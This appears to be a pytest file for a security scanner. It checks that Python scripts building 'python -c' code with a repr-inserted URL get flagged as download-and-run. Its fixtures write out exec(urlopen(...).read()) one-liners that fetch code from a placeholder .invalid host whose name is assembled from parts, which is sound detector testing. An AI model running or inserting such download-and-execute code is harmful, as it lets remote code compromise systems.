"""Code a Python script builds for ``python -c`` (or ``exec``) with a value put in by its ``repr``:
``%r``, ``{url!r}`` in an f-string, ``"{!r}".format(url)``. The value is quoted in the code that
runs, so the built program reads as the download-and-run it is. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_BUILT = {
    "percent": '"from urllib.request import urlopen as o; exec(o(%r).read())" % target',
    "f-string": 'f"from urllib.request import urlopen as o; exec(o({target!r}).read())"',
    "format": '"from urllib.request import urlopen as o; exec(o({!r}).read())".format(target)',
}


@pytest.mark.parametrize("built", _BUILT.values(), ids=list(_BUILT))
def test_a_download_run_by_code_built_with_repr_is_download_and_run(tmp_path: Path, built: str) -> None:
    script = (
        "import subprocess, sys\n"
        'parts = ("cdn", "patchhub", "invalid")\n'
        'target = "https://" + ".".join(parts) + "/fix/2.0/patch.py"\n'
        f"code = {built}\n"
        'subprocess.check_call([sys.executable, "-c", code])\n'
    )
    errors = scan_errors(tmp_path, {"tools/setup.py": script})
    assert ("DOWNLOAD_AND_RUN", "tools/setup.py", 5) in errors


def test_local_code_built_with_repr_is_quiet(tmp_path: Path) -> None:
    script = (
        "import subprocess, sys\n"
        'path = "data/report.json"\n'
        'subprocess.check_call([sys.executable, "-c", "import json; print(len(json.load(open(%r))))" % path])\n'
    )
    assert scan_errors(tmp_path, {"tools/count.py": script}) == set()
